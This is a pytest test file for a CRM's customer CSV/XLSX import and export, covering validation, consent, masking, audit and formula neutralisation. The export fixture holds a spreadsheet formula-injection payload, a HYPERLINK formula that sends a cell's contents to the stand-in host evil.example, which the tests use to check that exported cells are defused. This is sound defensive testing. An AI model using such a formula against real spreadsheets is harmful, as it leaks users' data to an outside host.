"""Import and export of customers: CSV/XLSX with Chinese headers, per-row errors, all or nothing,
duplicates, separate consent, masking, formula neutralisation, reasons and audit."""
from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import delete, func, select

from core import validation
from core.audit import AuditEntry
from core.db import db
from core.models import RoleGrant, User
from modules.customers import io as cio
from modules.customers import services
from modules.customers.models import Customer
from tests.conftest import both_suites

ID_1 = "11010519491231002X"  # the example of GB 11643
ID_2 = "110101199003074477"
HEADERS = ["类型", "名称", "手机", "身份证号", "统一社会信用代码", "家庭住址", "负责人"]
CREDIT = "91110000600037341L"


@pytest.fixture
def people(make_user):
    return {name: make_user(name, role, dept) for name, role, dept in (
        ("head1", "head", "D1"), ("sales1", "sales", "D1"), ("sales1b", "sales", "D1"),
        ("head2", "head", "D2"), ("sales2", "sales", "D2"))}


def user(name):
    return db.session.execute(select(User).where(User.username == name)).scalar_one()


def csv_bytes(rows, headers=HEADERS, bom=True):
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(headers)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8-sig" if bom else "utf-8")


def xlsx_bytes(rows, headers=HEADERS):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    buf = io.BytesIO()
    workbook.save(buf)
    return buf.getvalue()


def count_customers():
    return db.session.scalar(select(func.count()).select_from(Customer))


def entries(action):
    return db.session.execute(select(AuditEntry).where(AuditEntry.action == action)
                              .order_by(AuditEntry.id)).scalars().all()


def make_customer(owner_name, **data):
    owner = user(owner_name)
    data.setdefault("kind", "person")
    consent = {"purposes": ["service"], "channel": "paper", "sensitive": True} \
        if data.get("id_number") or data.get("bank_account") else None
    customer = services.create_customer(owner, data, owner=owner, consent=consent)
    db.session.commit()
    return customer


ROWS = [
    ["个人", "张三", "13800138000", "", "", "北京市朝阳区示例路1号", "sales1"],
    ["企业", "北京示例科技有限公司", "010-62345678", "", CREDIT, "", ""],
    ["个人", "李四", "+86 139 0013 9000", "", "", "", "sales1b"],
]


# --- import -----------------------------------------------------------------------------------

@both_suites
@pytest.mark.parametrize("bom", [True, False])
def test_import_csv_with_and_without_bom(app, people, bom):
    with app.app_context():
        result = cio.import_customers(user("head1"), csv_bytes(ROWS, bom=bom), "kehu.csv",
                                      consent_channel="paper")
        assert result.ok, [str(e) for e in result.errors]
        assert (result.rows, result.created) == (3, 3)
        customers = db.session.execute(select(Customer).order_by(Customer.id)).scalars().all()
        assert [c.display_name for c in customers] == ["张三", "北京示例科技有限公司", "李四"]
        assert [c.owner.username for c in customers] == ["sales1", "head1", "sales1b"]
        assert customers[0].phone == "+8613800138000" and customers[2].phone == "+8613900139000"
        assert customers[0].home_address == "北京市朝阳区示例路1号"
        assert customers[1].credit_code == CREDIT and customers[1].kind == "org"
        assert {c.department_id for c in customers} == {user("head1").department_id}
        (entry,) = entries("customers.import.completed")
        details = entry.details_dict
        assert (details["rows"], details["created"], details["format"]) == (3, 3, "csv")
        assert "home_address" in details["columns"] and "张三" not in entry.details
        assert "13800138000" not in entry.details


def test_import_xlsx_with_numbers_and_dates(app, people):
    import datetime
    headers = ["类型", "名称", "性别", "出生日期", "手机", "电子邮箱", "状态", "来源", "备注"]
    rows = [["个人", "王五", "男", datetime.datetime(1980, 5, 17), 13800138001, "wang@example.com", "在册",
             "电话", "'=1+1"]]
    with app.app_context():
        result = cio.import_customers(user("head1"), xlsx_bytes(rows, headers), "import.xlsx",
                                      consent_channel="paper")
        assert result.ok, [str(e) for e in result.errors]
        customer = db.session.execute(select(Customer)).scalar_one()
        assert (customer.name, customer.gender, customer.birth_date) == ("王五", "M", "1980-05-17")
        assert customer.phone == "+8613800138001"
        assert (customer.status, customer.source) == ("active", "phone")
        assert customer.notes == "=1+1"  # the apostrophe that guarded the formula on export is gone


def test_unknown_column_is_reported_not_ignored(app, people):
    data = csv_bytes([["个人", "张三", "13800138000", "wx123"]], headers=["类型", "名称", "手机", "微信号"])
    with app.app_context():
        with pytest.raises(cio.ImportFileError, match="微信号"):
            cio.import_customers(user("head1"), data, "x.csv")
        assert count_customers() == 0
        (entry,) = entries("customers.import.refused")
        assert entry.details_dict["reason"] == "unknown_columns" and "微信号" not in entry.details


def test_a_bad_row_stores_nothing_and_is_reported(app, people):
    rows = ROWS + [["个人", "赵六", "13800138009", "110105194912310021", "", "", ""]]  # bad check digit
    with app.app_context():
        result = cio.import_customers(user("head1"), csv_bytes(rows), "x.csv", consent_channel="paper")
        assert not result.ok and result.created == 0
        assert [(e.row, e.column) for e in result.errors] == [(5, "身份证号")]
        assert "check digit" in result.errors[0].message or "校验" in result.errors[0].message
        assert count_customers() == 0
        (entry,) = entries("customers.import.refused")
        assert entry.details_dict["errors"] == 1 and entry.details_dict["error_columns"] == ["身份证号"]
        assert "1101051949" not in entry.details


def test_row_errors_name_row_and_column(app, people):
    rows = [["个人", "", "13800138000", "", "", "", ""],
            ["外星人", "X", "", "", "", "", ""],
            ["个人", "张三", "12345", "", "", "", ""],
            ["个人", "李四", "", "", CREDIT, "", ""],
            ["个人", "王五", "", "", "", "", "sales2"]]
    with app.app_context():
        result = cio.import_customers(user("head1"), csv_bytes(rows), "x.csv")
        found = {(e.row, e.column) for e in result.errors}
        assert found == {(2, "名称"), (3, "类型"), (4, "手机"), (5, "统一社会信用代码"), (6, "负责人")}
        assert count_customers() == 0


def test_duplicates_against_the_register_and_inside_the_file(app, people):
    with app.app_context():
        existing = make_customer("sales1", name="张三", phone="13800138000")
        rows = [["个人", "张三", "13800138000", "", "", "", ""],
                ["个人", "孙七", "13700137000", "", "", "", ""],
                ["个人", "周八", "137 0013 7000", "", "", "", ""]]
        result = cio.import_customers(user("head1"), csv_bytes(rows), "x.csv")
        messages = {e.row: e.message for e in result.errors}
        assert existing.number in messages[2]
        assert "3" in messages[4] and set(messages) == {2, 4}
        assert count_customers() == 1
        # a duplicate held by another department is reported without its data
        result = cio.import_customers(user("head2"), csv_bytes(rows[:1]), "x.csv")
        assert len(result.errors) == 1 and existing.number not in result.errors[0].message


def test_sensitive_rows_need_confirmed_separate_consent(app, people):
    rows = [["个人", "张三", "13800138000", ID_1, "", "", ""], ["个人", "李四", "13900139000", "", "", "", ""]]
    with app.app_context():
        result = cio.import_customers(user("head1"), csv_bytes(rows), "x.csv")
        assert [(e.row, e.column) for e in result.errors] == [(2, "身份证号")]
        assert "consent" in result.errors[0].message or "同意" in result.errors[0].message
        assert count_customers() == 0
        result = cio.import_customers(user("head1"), csv_bytes(rows), "x.csv", consent_channel="paper")
        assert result.ok and (result.created, result.consents) == (2, 1)
        person = db.session.execute(select(Customer).where(Customer.id_number_bidx.is_not(None))).scalar_one()
        (consent,) = person.consents
        assert consent.sensitive and consent.channel == "paper" and consent.active
        with pytest.raises(cio.ImportFileError):
            cio.import_customers(user("head1"), csv_bytes(rows), "x.csv", consent_channel="carrier-pigeon")


def test_only_heads_of_a_department_import(app, people):
    with app.app_context():
        with pytest.raises(cio.ImportFileError):
            cio.import_customers(user("sales1"), csv_bytes(ROWS), "x.csv")
        assert count_customers() == 0


@pytest.mark.parametrize("data, name", [
    (csv_bytes(ROWS), "x.xlsx"),  # text named .xlsx
    (xlsx_bytes(ROWS), "x.csv"),  # a workbook named .csv
    ("类型,名称\n个人,张三\n".encode("gbk"), "x.csv"),  # not UTF-8
    (b"\xd0\xcf\x11\xe0" + b"\0" * 100, "x.xls"),  # old Excel
    (b"PK\x03\x04garbage", "x.xlsx"),  # a broken zip
])
def test_uploads_are_checked_by_content(app, people, data, name):
    with app.app_context():
        with pytest.raises(cio.ImportFileError):
            cio.import_customers(user("head1"), data, name)
        assert count_customers() == 0


def test_dry_run_checks_and_stores_nothing(app, people):
    with app.app_context():
        result = cio.import_customers(user("head1"), csv_bytes(ROWS), "x.csv", dry_run=True,
                                      consent_channel="paper")
        assert result.ok and result.rows == 3 and result.created == 0
        assert count_customers() == 0 and entries("customers.import.checked")


# --- export -----------------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.fixture
def exported(app, people):
    """Customers whose texts a spreadsheet would run as formulas, and a head without reveal rights."""
    with app.app_context():
        make_customer("sales1", name=HYPERLINK, phone="+8613800138000", id_number=ID_1, notes="+1+1",
                      home_address="北京市朝阳区示例路1号", tags="@SUM(1)")
        make_customer("sales1", kind="org", company_name="-2+3", credit_code=CREDIT, phone="010-62345678")
        make_customer("sales2", name="王五", phone="13900139000")  # another department
        db.session.execute(delete(RoleGrant).where(RoleGrant.permission.in_(
            ["customers.reveal_l2", "customers.reveal_l3"])))
        db.session.commit()


def test_csv_export_masks_and_neutralises_formulas(app, exported):
    with app.app_context():
        data, count = cio.export_customers(user("head1"), "csv", "季度核对")
    assert data.startswith(b"\xef\xbb\xbf") and count == 2
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    person, org = rows
    assert person["名称"] == "'" + HYPERLINK
    assert person["备注"] == "'+1+1" and person["标签"] == "'@SUM(1)"
    assert org["名称"] == "'-2+3"
    assert person["手机"] == "138 0013 8000"  # as people write it, and not a number or formula to Excel
    assert org["手机"] == "010-6234 5678"
    assert person["身份证号"] == "110105********002X"
    assert person["家庭住址"].startswith("北京") and "示例路" not in person["家庭住址"]
    assert org["统一社会信用代码"] == CREDIT and person["负责人"] == "sales1"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    # what was exported can be imported again: the guarding apostrophes are removed
    assert validation.phone(cio._cell_text(person["手机"])) == "+8613800138000"


def test_xlsx_export_writes_every_cell_as_a_string(app, exported):
    with app.app_context():
        data, _count = cio.export_customers(user("head1"), "xlsx", "季度核对")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    header = [c.value for c in sheet[1]]
    person = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert all(c.data_type == "s" for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None)
    assert person["名称"].value == HYPERLINK and person["名称"].quotePrefix
    assert person["备注"].value == "+1+1" and person["手机"].value == "138 0013 8000"
    assert person["身份证号"].value == "110105********002X"


@both_suites
def test_export_masks_even_for_a_role_that_may_reveal(app, people):
    """Clear text only through an approved disclosure request (issue 17; tests/modules/disclosure)."""
    with app.app_context():
        make_customer("sales1", name="张三", phone="13800138000", id_number=ID_1, home_address="北京市朝阳区示例路1号")
        data, _count = cio.export_customers(user("head1"), "csv", "年度核查")
        row = next(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
        assert row["身份证号"] == "110105********002X" and row["家庭住址"] != "北京市朝阳区示例路1号"
        assert not entries("customers.export.revealed")
        (entry,) = entries("customers.export.completed")
        assert entry.details_dict["revealed"] == [] and "id_number" in entry.details_dict["masked"]


def test_export_needs_a_reason_and_is_audited_with_the_row_count(app, exported):
    with app.app_context():
        for reason in ("", "   ", None):
            with pytest.raises(cio.ExportError):
                cio.export_customers(user("head1"), "csv", reason)
        assert not entries("customers.export.completed")
        with pytest.raises(cio.ExportError):
            cio.export_customers(user("sales1"), "csv", "想看看", marketing=True)  # no marketing export
        cio.export_customers(user("head1"), "xlsx", "季度核对")
        (entry,) = entries("customers.export.completed")
        details = entry.details_dict
        assert (details["rows"], details["reason"], details["format"]) == (2, "季度核对", "xlsx")
        assert details["masked"] and not details["revealed"] and not entries("customers.export.revealed")
        assert "HYPERLINK" not in entry.details and "8613800138000" not in entry.details


def test_marketing_export_lists_only_customers_with_active_marketing_consent(app, people):
    with app.app_context():
        head = user("head1")
        yes = make_customer("sales1", name="甲", phone="13800138001", email="a@example.com")
        withdrawn = make_customer("sales1", name="乙", phone="13800138002")
        make_customer("sales1", name="丙", phone="13800138003")  # never asked
        services.record_consent(head, yes, ["marketing"], "", "online")
        consent = services.record_consent(head, withdrawn, ["marketing", "service"], "", "online")
        services.withdraw_consent(head, consent, "客户要求")
        db.session.commit()
        data, count = cio.export_customers(head, "csv", "春季活动", marketing=True)
        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
        assert count == 1 and [r["名称"] for r in rows] == ["甲"]
        assert set(rows[0]) == {"客户编号", "类型", "名称", "手机", "电子邮箱", "负责人"}  # contact columns only
        assert entries("customers.export.completed")[-1].details_dict["marketing"] is True
        db.session.execute(delete(RoleGrant).where(RoleGrant.permission == "customers.marketing_export"))
        db.session.commit()
    with app.app_context():  # grants are cached per app context
        with pytest.raises(cio.ExportError):
            cio.export_customers(user("head1"), "csv", "春季活动", marketing=True)


# --- pages ------------------------------------------------------------------------------------

def test_import_page_shows_summary_or_row_errors(app, client, login_as, people):
    login_as(client, "head1")
    page = client.get("/customers/import")
    assert page.status_code == 200 and b"import-template" in page.data
    bad = ROWS + [["个人", "钱九", "99999", "", "", "", ""]]
    response = client.post("/customers/import", data={"file": (io.BytesIO(csv_bytes(bad)), "k.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert 'id="import-errors"' in html and "<td>5</td><td>手机</td>" in html
    response = client.post("/customers/import", data={"file": (io.BytesIO(xlsx_bytes(ROWS)), "k.xlsx"),
                                                      "consent": "y", "channel": "paper"},
                           content_type="multipart/form-data")
    assert response.status_code == 200 and 'id="import-summary"' in response.get_data(as_text=True)
    response = client.post("/customers/import", data={"file": (io.BytesIO(csv_bytes(ROWS)), "k.xlsx")},
                           content_type="multipart/form-data")
    assert response.status_code == 400 and 'id="import-problem"' in response.get_data(as_text=True)
    with app.app_context():
        assert count_customers() == 3


def test_import_page_consent_checkbox(app, client, login_as, people):
    login_as(client, "head1")
    rows = [["个人", "张三", "13800138000", ID_1, "", "", ""]]
    response = client.post("/customers/import", data={"file": (io.BytesIO(csv_bytes(rows)), "k.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 400
    response = client.post("/customers/import", data={"file": (io.BytesIO(csv_bytes(rows)), "k.csv"),
                                                      "consent": "y", "channel": "onsite"},
                           content_type="multipart/form-data")
    assert response.status_code == 200
    with app.app_context():
        assert count_customers() == 1


@pytest.mark.parametrize("config_overrides", [{"MAX_CONTENT_LENGTH": 2048}])
def test_import_upload_size_is_limited(app, client, login_as, people):
    login_as(client, "head1")
    big = csv_bytes([["个人", f"客户{i}", "", "", "", "", ""] for i in range(400)])
    response = client.post("/customers/import", data={"file": (io.BytesIO(big), "k.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 413


def test_import_pages_need_the_permission(client, login_as, people):
    login_as(client, "sales1")
    assert client.get("/customers/import").status_code == 403
    assert client.get("/customers/import-template.xlsx").status_code == 403


def test_import_template_is_an_importable_workbook(app, client, login_as, people):
    login_as(client, "head1")
    response = client.get("/customers/import-template.xlsx")
    assert response.status_code == 200 and response.data.startswith(b"PK\x03\x04")
    assert "attachment" in response.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["类型", "名称", "性别"] and "负责人" in header and "客户编号" not in header
    for name in ("手机", "身份证号", "统一社会信用代码", "家庭住址", "负责人"):
        assert name in header
    assert sheet.max_row == 2
    with app.app_context():  # the example row itself passes (with the consent confirmation)
        result = cio.import_customers(user("head1"), response.data, "t.xlsx", dry_run=True,
                                      consent_channel="paper")
        assert result.ok, [str(e) for e in result.errors]


def test_export_page_downloads_with_reason_only(app, client, login_as, exported):
    login_as(client, "head1")
    assert client.get("/customers/export").status_code == 200
    response = client.post("/customers/export", data={"reason": "", "fmt": "csv"})
    assert response.status_code == 400
    response = client.post("/customers/export", data={"reason": "对账", "fmt": "csv"})
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["Cache-Control"] == "no-store"
    assert response.data.startswith(b"\xef\xbb\xbf") and "110105********002X" in response.data.decode()
    response = client.post("/customers/export", data={"reason": "对账", "fmt": "xlsx"})
    assert response.data.startswith(b"PK\x03\x04")
    with app.app_context():
        assert [json.loads(e.details)["rows"] for e in entries("customers.export.completed")] == [2, 2]
